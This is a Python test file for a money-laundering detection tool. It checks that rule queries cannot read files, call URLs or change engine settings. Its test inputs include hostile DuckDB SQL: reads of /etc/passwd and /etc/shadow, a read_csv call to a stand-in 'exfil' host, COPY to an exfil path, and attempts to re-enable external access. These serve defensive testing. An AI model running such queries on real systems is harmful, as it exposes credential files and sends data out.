"""A rule file cannot reach outside the workspace: refused at load, locked down at run time.

Two independent walls. The load-time check (:mod:`moneytrail.detect.rules.guard`) refuses a
query that names a file, a URL, a table function, an unknown table or a function off the
allow-list, with ``file:line: query: reason`` naming the offender. The runtime wall
(:mod:`moneytrail.engine.sandbox`) runs rules on a DuckDB with external access disabled: a rule
object that never went through the check (built in Python) still cannot read a file, list a
folder or open a socket.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from moneytrail.detect.rules import Rule, load_library, load_rule_text, run_rules
from moneytrail.detect.rules.guard import ALLOWED_TABLES
from moneytrail.engine import DuckDBEngine, EngineError
from moneytrail.engine.sandbox import locked_down
from moneytrail.errors import BadInputError, UsageError
from moneytrail.workspace import Workspace
from tests.detect_rules.stories import Story
from tests.detect_rules.test_detect_rules_stories import structuring

HEAD = """\
id: sneaky
version: 1
typology: sneaky
typology_name: {fr: "Règle sournoise", en: "Sneaky rule"}
title: {fr: "t", en: "t"}
description: {fr: "d", en: "d"}
explain: {fr: "e", en: "e"}
references:
  - {body: FATF, title: "Some report", year: 2016}
query: |
"""
QUERY_LINE = 11  # file line of the query's first line (the line after "query: |")
TAIL = (
    "TIMESTAMP '2024-01-01' AS window_start, TIMESTAMP '2024-01-02' AS window_end,"
    " 0.5 AS score, CAST(0 AS DECIMAL(38, 8)) AS amount_reporting,"
    " CAST([] AS VARCHAR[]) AS transaction_ids, {'n': 1} AS fired"
)


def rule_text(*lines: str) -> str:
    """A rule file whose query is ``lines`` (each indented under ``query: |``)."""
    return HEAD + "".join(f"  {line}\n" for line in lines)


def refused(*lines: str) -> list[str]:
    """The rendered problems of loading a rule with this query (English)."""
    with pytest.raises(BadInputError) as caught:
        load_rule_text(rule_text(*lines), "regles/sneaky.yaml")
    return [p.render("en") for p in caught.value.problems]


@pytest.mark.parametrize(
    ("lines", "offence"),
    [
        (
            ["SELECT read_text('/etc/passwd') AS subject_id", "FROM transactions"],
            (11, "function 'read_text' is not on the list"),
        ),
        (
            ["SELECT content AS subject_id", "FROM read_text('/etc/passwd')"],
            (12, "table function 'read_text' is not allowed"),
        ),
        (
            ["SELECT column0 AS subject_id FROM read_csv('/etc/passwd', header = false)"],
            (11, "table function 'read_csv' is not allowed"),
        ),
        (
            ["SELECT * FROM transactions", "UNION ALL", "SELECT * FROM '/home/analyst/case.csv'"],
            (13, "'/home/analyst/case.csv' read as a table: a rule reads no file and no URL"),
        ),
        (
            ['SELECT * FROM "/etc/passwd"'],
            (11, "'/etc/passwd' read as a table"),
        ),
        (
            ["SELECT file AS subject_id FROM glob('/home/*')"],
            (11, "table function 'glob' is not allowed"),
        ),
        (
            ["SELECT * FROM read_csv('http://198.51.100.7/exfil.csv?d=1')"],
            (11, "table function 'read_csv' is not allowed"),
        ),
        (
            ["SELECT * FROM 'https://198.51.100.7/x.parquet'"],
            (11, "'https://198.51.100.7/x.parquet' read as a table"),
        ),
        (
            ["SELECT getenv('HOME') AS subject_id FROM transactions"],
            (11, "function 'getenv' is not on the list"),
        ),
        (
            ["SELECT current_setting('temp_directory') AS subject_id FROM accounts"],
            (11, "function 'current_setting' is not on the list"),
        ),
        (
            ["SELECT id AS subject_id FROM secrets"],
            (11, "table 'secrets' is not allowed: a rule reads only accounts, fx_rates"),
        ),
        (
            ["SELECT subject_id FROM alerts"],
            (11, "table 'alerts' is not allowed"),
        ),
        (
            ["SELECT id AS subject_id FROM main.transactions"],
            (11, "'main.transactions': name a table without database or schema"),
        ),
        (
            [
                "WITH files AS (",
                "    SELECT * FROM read_parquet('/mnt/usb/*.parquet')",
                ")",
                "SELECT * FROM files",
            ],
            (12, "table function 'read_parquet' is not allowed"),
        ),
        (
            [
                "SELECT t.id AS subject_id FROM transactions t",
                "WHERE t.reference IN (SELECT content FROM read_text('/etc/shadow'))",
            ],
            (12, "table function 'read_text' is not allowed"),
        ),
        (
            [
                "SELECT t.id AS subject_id, f.content",
                "FROM transactions t,",
                "     LATERAL (SELECT content FROM read_text('/etc/hostname')) f",
            ],
            (13, "table function 'read_text' is not allowed"),
        ),
        (
            ["SELECT * FROM query_table('job_runs')"],
            (11, "table function 'query_table' is not allowed"),
        ),
        (
            ["SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')')"],
            (11, "table function 'query' is not allowed"),
        ),
        (
            ["SELECT json_execute_serialized_sql('x') AS subject_id FROM transactions"],
            (11, "function 'json_execute_serialized_sql' is not on the list"),
        ),
        (
            ["SELECT * FROM (WITH job_runs AS (SELECT 1) SELECT 1), job_runs"],
            (11, "table 'job_runs' is not allowed"),  # a CTE name does not leak out of scope
        ),
    ],
)
def test_a_rule_that_reaches_outside_is_refused_at_load(
    lines: list[str], offence: tuple[int, str]
) -> None:
    line, reason = offence
    problems = refused(*lines)
    assert any(p.startswith(f"regles/sneaky.yaml:{line}: query: {reason}") for p in problems), (
        problems
    )


@pytest.mark.parametrize(
    ("query", "name"),
    [
        ("ATTACH '/tmp/other.duckdb' AS other", "ATTACH"),
        ("COPY transactions TO '/tmp/out.csv'", "COPY"),
        ("INSTALL httpfs", "INSTALL"),
        ("LOAD httpfs", "LOAD"),
        ("PRAGMA enable_profiling", "PRAGMA"),
        ("SET enable_external_access = true", "SET"),
        ("SELECT 1 AS subject_id; ATTACH 'x.duckdb'", "ATTACH"),
    ],
)
def test_statements_other_than_select_are_refused_by_name(query: str, name: str) -> None:
    (problem,) = refused(query)
    assert problem == (
        f"regles/sneaky.yaml:{QUERY_LINE}: query: '{name}' is not allowed:"
        " a rule is one SELECT over the workspace"
    )


def test_every_offence_is_listed_and_the_message_reads_in_french() -> None:
    text = rule_text(
        "SELECT getenv('USER') AS subject_id",
        "FROM transactions t JOIN glob('/home/*') g ON true",
        "JOIN case_notes n ON n.id = t.id",
    )
    with pytest.raises(BadInputError) as caught:
        load_rule_text(text, "sneaky.yaml")
    rendered = [p.render("fr") for p in caught.value.problems]
    assert rendered == [
        "sneaky.yaml:11: query: fonction « getenv » hors de la liste des fonctions permises"
        " aux règles (voir docs/detection.md)",
        "sneaky.yaml:12: query: fonction de table « glob » interdite : une règle ne lit que "
        + ", ".join(sorted(ALLOWED_TABLES)),
        "sneaky.yaml:13: query: la table « case_notes » n'est pas permise : une règle ne lit que "
        + ", ".join(sorted(ALLOWED_TABLES))
        + " et ses propres CTE",
    ]


def test_a_user_folder_with_one_sneaky_rule_is_refused_whole(tmp_path: Path) -> None:
    folder = tmp_path / "regles"
    folder.mkdir()
    (folder / "sneaky.yaml").write_text(
        rule_text("SELECT content AS subject_id FROM read_text('/etc/passwd')"), encoding="utf-8"
    )
    with pytest.raises(BadInputError) as caught:
        load_library([folder])
    (problem,) = caught.value.problems
    assert problem.render("en").startswith(f"{folder / 'sneaky.yaml'}:11: query: table function")


def test_the_cli_refuses_the_folder_with_exit_code_3(tmp_path: Path, cli: Any) -> None:
    folder = tmp_path / "regles"
    folder.mkdir()
    (folder / "sneaky.yaml").write_text(
        rule_text("SELECT file AS subject_id FROM glob('/home/*')"), encoding="utf-8"
    )
    Workspace.init(tmp_path / "ws").close()
    result = cli("--lang", "en", "detect", "run", "-w", tmp_path / "ws", "--rules", folder)
    assert result.code == 3
    assert "sneaky.yaml:11: query: table function 'glob' is not allowed" in result.err


def test_pure_sql_stays_allowed() -> None:
    rule = load_rule_text(
        rule_text(
            "WITH days AS (SELECT d FROM range(DATE '2024-01-01', DATE '2024-02-01',",
            "                                   INTERVAL 1 DAY) r(d)),",
            "     legs AS (SELECT t.id, t.ts, unnest([t.src_account_id, t.dst_account_id]) AS acc",
            "              FROM transactions t JOIN accounts a ON a.id = t.src_account_id)",
            "SELECT l.acc AS subject_id, min(l.ts) AS window_start, max(l.ts) AS window_end,",
            "       least(1.0, count(*) / 10) AS score, list(l.id ORDER BY l.ts) AS transaction_ids,",
            "       NULL AS amount_reporting, {'n': count(*), 'days': count(DISTINCT d.d)} AS fired",
            "FROM legs l JOIN days d ON date_trunc('day', l.ts) = d.d",
            "WHERE NOT regexp_matches(lower(coalesce(l.acc, '')), '^ext')",
            "GROUP BY l.acc",
        ),
        "pure.yaml",
    )
    assert rule.id == "sneaky"


# -- the runtime wall: rules that never went through the check ------------------------------


def crafted(query: str) -> Rule:
    """A rule object with ``query`` as is: built in Python, never validated."""
    benign = load_rule_text(rule_text(f"SELECT 'x' AS subject_id, {TAIL}"), "crafted.yaml")
    return benign.model_copy(update={"query": query})


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "case_file.csv"
    path.write_text("name,phone\nSECRET-INFORMANT,+22376000000\n", encoding="utf-8")
    return path


def _blocked(ws: Workspace, query: str) -> str:
    """Run ``query`` as a rule; it must fail as a rule error and leave no alert."""
    with pytest.raises(BadInputError) as caught:
        run_rules(ws.engine, [crafted(query)])
    message = caught.value.problems[0].render("en")
    assert ws.engine.fetchall("SELECT count(*) FROM alerts") == [(0,)]
    return message


@pytest.mark.parametrize(
    "source",
    [
        "SELECT content AS subject_id, {tail} FROM read_text('{path}')",
        "SELECT name AS subject_id, {tail} FROM read_csv('{path}')",
        "SELECT name AS subject_id, {tail} FROM '{path}'",
        "SELECT file AS subject_id, {tail} FROM glob('{folder}/*')",
        "SELECT content AS subject_id, {tail} FROM read_blob('{path}')",
    ],
)
def test_a_crafted_rule_cannot_read_a_file_at_run_time(
    ws: Workspace, secret: Path, source: str
) -> None:
    query = source.format(tail=TAIL, path=secret, folder=secret.parent)
    message = _blocked(ws, query)
    assert "disabled by configuration" in message, message
    assert "SECRET" not in message
    # The lockdown was for the run only: the workspace's engine reads files again.
    assert "SECRET" in ws.engine.fetchall("SELECT content FROM read_text(?)", [str(secret)])[0][0]


@pytest.mark.parametrize(
    "url",
    ["http://127.0.0.1:9/exfil.csv", "https://198.51.100.7/x.parquet", "s3://bucket/x.csv"],
)
def test_a_crafted_rule_cannot_open_a_socket(ws: Workspace, url: str) -> None:
    message = _blocked(ws, f"SELECT column0 AS subject_id, {TAIL} FROM read_csv('{url}')")
    # Refused before any connection or extension download is tried.
    assert "disabled by configuration" in message, message


def test_a_crafted_rule_cannot_install_or_load_an_extension(ws: Workspace) -> None:
    with locked_down(ws.engine) as engine:
        for statement in ("INSTALL httpfs", "LOAD httpfs", "SET enable_external_access = true"):
            with pytest.raises(EngineError, match=r"disabled|locked"):
                engine.execute(statement)
        with pytest.raises(EngineError, match="disabled"):
            engine.execute("COPY (SELECT 1) TO '/tmp/moneytrail-exfil.csv'")
        with pytest.raises(EngineError, match="disabled"):
            engine.execute("ATTACH '/tmp/moneytrail-other.duckdb' AS other")


def test_the_locked_engine_still_reads_and_writes_the_workspace(ws: Workspace) -> None:
    structuring(Story(ws.engine), True)
    result = run_rules(ws.engine, [load_library()["structuring"]])
    assert result.alerts_new == 1
    assert ws.engine.fetchall("SELECT count(*) FROM alerts") == [(1,)]
    ws.engine.execute("CREATE TEMP TABLE after_run AS SELECT 1 AS x")  # usable as before


def test_an_in_memory_engine_is_locked_in_place_for_good(tmp_path: Path) -> None:
    engine = DuckDBEngine()
    with locked_down(engine) as locked:
        assert locked is engine
    with pytest.raises(EngineError, match="disabled"):
        engine.fetchall("SELECT * FROM read_text(?)", [str(tmp_path)])


def test_a_workspace_open_twice_in_one_process_is_not_shared_with_the_sandbox(
    ws: Workspace,
) -> None:
    other = Workspace.open(ws.path)  # same file, same process: one DuckDB instance
    try:
        with pytest.raises(UsageError) as caught:
            other.rules.run([load_library()["structuring"]])
        assert caught.value.key == "error.rule_sandbox_shared"
        assert other.engine.fetchall("SELECT count(*) FROM alerts") == [(0,)]  # reopened
    finally:
        other.close()
